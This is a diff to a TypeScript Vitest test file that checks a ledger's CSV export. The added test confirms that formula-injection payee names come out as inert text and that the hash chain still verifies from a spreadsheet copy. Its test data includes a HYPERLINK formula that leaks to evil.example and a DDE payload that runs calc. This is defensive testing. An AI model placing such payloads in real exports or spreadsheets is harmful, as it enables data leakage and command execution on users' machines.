@@ -1,7 +1,10 @@
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ROLES } from '../../shared/domain/funding-line.ts';
+import { GENESIS_HASH, verifyChain } from '../../shared/domain/hash-chain.ts';
+import { entryFromCsvRecord } from '../../shared/domain/ledger-csv.ts';
 import { ROUTES } from '../../shared/http/routes.ts';
+import { cellValues, openInSpreadsheet } from '../support/spreadsheet-reader.ts';
 import { steps } from './support/api-steps.ts';
 import { type Runtime, startRuntime } from './support/local-runtime.ts';
 
@@ -56,10 +59,53 @@ describe('the audit routes over HTTP', () => {
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
     expect(rows.map((r) => r.hash)).toEqual(
-      [...first.body.items, ...second.body.items].map((e: { hash: string }) => e.hash),
+      [...first.body.items, ...second.body.items].map((e: { hash: string }) => `sha256:${e.hash}`),
     );
     expect(rows.map((r) => r.amountVnd)).toEqual(['11000000', '22000000', '33000000']);
     expect(text.split('\r\n')).toHaveLength(5); // header, three rows, and the empty string after the last CRLF
+  });
+
+  it('writes formula payloads as inert text and hashes a spreadsheet keeps, so a copy re-verifies', async () => {
+    const year = 2025;
+    const payees = [
+      '=HYPERLINK("http://evil.example/?leak","Xem")',
+      '+1+1',
+      '  -2',
+      '＠SUM(1)',
+      "=cmd|' /C calc'!A0",
+    ];
+    const id = (await s.createAllocation({ fiscalYear: year, fundingLine: 'local', amountVnd: 900_000_000 }))
+      .id;
+    for (const [i, name] of payees.entries()) {
+      const submitted = await s.submit(id, 1_000_000 * (i + 1), 'finance-lan', undefined, {
+        payee: { name, kind: 'household' },
+        purpose: i === 0 ? '@đợt 1' : 'Hỗ trợ làm nhà',
+      });
+      expect(submitted.status).toBe(201);
+      await s.approveAll(submitted.body.id);
+    }
+    const token = await s.as('auditor-an', 'auditor');
+    const json = await rt.call('GET', `/ledger/entries?fiscalYear=${year}&limit=500`, { token });
+    const res = await fetch(`${rt.url}/ledger/entries?fiscalYear=${year}&format=csv`, {
+      headers: { authorization: `Bearer ${token}` },
+    });
+    const csv = await res.text();
+    const records = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+    const copy = openInSpreadsheet(csv);
+
+    expect(records.map((r) => r.payeeName)).toEqual(
+      json.body.items.map((e: { payee: { name: string } }) => `'${e.payee.name}`),
+    );
+    expect(records.map((r) => r.payeeName)).toEqual(payees.map((p) => `'${p.trim()}`));
+    expect(records[0]?.purpose).toBe("'@đợt 1");
+    expect(copy.flatMap((row) => Object.values(row).filter((cell) => cell.f !== undefined))).toEqual([]);
+    expect(copy.map((row) => [row.amountVnd?.t, row.amountVnd?.v])).toEqual(
+      payees.map((_, i) => ['n', 1_000_000 * (i + 1)]),
+    );
+    expect(copy[0]?.prevHash?.v).toBe(`sha256:${GENESIS_HASH}`);
+    const fromCopy = cellValues(copy).map(entryFromCsvRecord);
+    expect(fromCopy).toEqual(json.body.items);
+    expect(verifyChain(fromCopy)).toMatchObject({ valid: true, checked: payees.length });
   });
 
   it('answers 400 invalid_cursor to an edited cursor', async () => {
